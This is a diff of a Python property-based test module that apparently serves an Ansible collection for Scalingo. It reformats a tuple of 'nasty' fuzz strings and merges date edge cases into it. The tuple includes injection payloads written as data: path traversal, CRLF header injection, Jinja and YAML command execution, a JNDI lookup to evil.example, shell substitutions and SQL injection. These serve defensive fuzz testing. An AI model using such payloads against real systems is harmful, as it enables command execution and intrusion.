@@ -1,7 +1,7 @@
 # Copyright: (c) 2026, the community.scalingo authors
 # GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""What is drawn: texts that break something, JSON of any form, dates that are none."""
+"""What is drawn: texts that break something, and JSON of any form."""
 
 from __future__ import annotations
 
@@ -11,81 +11,19 @@ from hypothesis import strategies as st
 
 Strategy = st.SearchStrategy[Any]
 
-# Each of these has broken some program.
+# Each of these has broken some program: paths, URLs, control characters and halves of characters, lookalikes, lengths,
+# other types, templates, commands, markup, dates.
 NASTY = (
-    "",
-    " ",
-    ".",
-    "..",
-    "../..",
-    "../users/self",
-    "..%2fapps",
-    "%2e",
-    "%2e%2e",
-    "%2E%2E%2F",
-    "%252e%252e",
-    "..;",
-    "./x",
-    "x/..",
-    "a/b",
-    "a\\b",
-    "..\\..",
-    "x?y=z",
-    "x#y",
-    "x;y",
-    "x&y=z",
-    "//evil.example",
-    "http://evil.example/",
-    "\r\nX-Evil: 1",
-    "x\r\n\r\nGET / HTTP/1.1",
-    "\x00",
-    "x\x00y",
-    "\x1b[31m",
-    "\ud800",
-    "x\udfffy",
-    "\ufeffx",
-    "\u202egnp",
-    "\u2028",
-    "web\n",
-    "web ",
-    " web",
-    "Web",
-    "w\u0435b",
-    "we\u017f",
-    "\u0661\u0662\u0663",
-    "\uff57\uff45\uff42",
-    "x" * 64,
-    "x" * 65,
-    "x" * 10_000,
-    "é" * 64,
-    "-",
-    "_",
-    "null",
-    "None",
-    "true",
-    "0",
-    "-1",
-    "1e9",
-    "nan",
-    "[]",
-    "{}",
-    "~",
-    "*",
-    "{{ 7 * 7 }}",
-    "{{ lookup('pipe', 'id') }}",
-    "{% raw %}",
-    "{# x",
-    "!unsafe x",
-    "!!python/object/apply:os.system ['id']",
-    "${jndi:ldap://evil.example}",
-    "$(id)",
-    "`id`",
-    "%s%n",
-    "{0.__class__}",
-    "' OR 1=1 --",
-    "<script>alert(1)</script>",
-    "]]>",
-    "&amp;&#0;",
+    *("", " ", ".", "..", "../..", "../users/self", "..%2fapps", "%2e%2e", "%2E%2E%2F", "%252e%252e", "..;", "./x"),
+    *("x/..", "a/b", "a\\b", "..\\..", "x?y=z", "x#y", "x;y", "x&y=z", "//evil.example", "http://evil.example/"),
+    *("\r\nX-Evil: 1", "x\r\n\r\nGET / HTTP/1.1", "\x00", "x\x00y", "\x1b[31m", "\ud800", "x\udfffy", "\ufeffx"),
+    *("\u202egnp", "\u2028", "web\n", "web ", " web", "Web", "w\u0435b", "we\u017f", "\u0661\u0662\u0663"),
+    *("\uff57\uff45\uff42", "x" * 64, "x" * 65, "x" * 10_000, "é" * 64, "-", "_", "null", "None", "true", "0", "-1"),
+    *("1e9", "nan", "[]", "{}", "~", "*", "{{ 7 * 7 }}", "{{ lookup('pipe', 'id') }}", "{% raw %}", "{# x"),
+    *("!unsafe x", "!!python/object/apply:os.system ['id']", "${jndi:ldap://evil.example}", "$(id)", "`id`", "%s%n"),
+    *("{0.__class__}", "' OR 1=1 --", "<script>alert(1)</script>", "]]>", "&amp;&#0;"),
+    *("2026-11-23T10:00:00", "2026-11-23", "2016-12-31T23:59:60Z", "2026-11-23T10:00:00.123456789012Z"),
+    *("2026-11-23T10:00:00+99:99", "2026-02-30T10:00:00Z", "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59"),
     "VALUE_SPECIFIED_IN_NO_LOG_PARAMETER",
 )
 
@@ -113,7 +51,7 @@ json_values = st.recursive(
 
 @st.composite
 def mutations(draw: Any, value: Any, others: Strategy = json_values) -> Any:
-    """A JSON value in which something, at some place, is missing, doubled, or of another form."""
+    """Draw a JSON value in which something, at some place, is missing, doubled, or of another form."""
     if not isinstance(value, (dict, list)) or not value or draw(st.integers(0, 4)) == 0:
         return draw(others)
     places = list(value) if isinstance(value, dict) else list(range(len(value)))
@@ -129,38 +67,3 @@ def mutations(draw: Any, value: Any, others: Strategy = json_values) -> Any:
     else:
         changed.append(draw(st.one_of(others, st.just(value[place]))))
     return changed
-
-
-dates = st.one_of(
-    st.sampled_from(
-        (
-            "2026-11-23T10:00:00Z",
-            "2026-11-23T10:00:00.690+02:00",
-            "2026-11-23T10:00:00+0200",
-            "2026-11-23T10:00:00",
-            "2026-11-23 10:00:00Z",
-            "2026-11-23",
-            "2026-W48-1",
-            "2016-12-31T23:59:60Z",
-            "2026-11-23T24:00:00Z",
-            "2026-11-23T10:00:00.123456789012Z",
-            "2026-11-23T10:00:00.Z",
-            "2026-11-23T10:00:00+99:99",
-            "2026-11-23T10:00:00+24:00",
-            "2026-11-23T10:00:00-23:59",
-            "2026-11-23T10:00:00z",
-            "2026-02-30T10:00:00Z",
-            "0000-01-01T00:00:00Z",
-            "0001-01-01T00:00:00+23:59",
-            "9999-12-31T23:59:59.999999-23:59",
-            "10000-01-01T00:00:00Z",
-            "-0001-01-01T00:00:00Z",
-            "\u0662\u0660\u0662\u0666-11-23T10:00:00Z",
-            "Mon, 23 Nov 2026 10:00:00 GMT",
-            "now",
-        )
-    ),
-    st.datetimes().map(lambda moment: moment.isoformat() + "Z"),
-    st.datetimes(timezones=st.timezones()).map(lambda moment: moment.isoformat()),
-    scalars,
-)
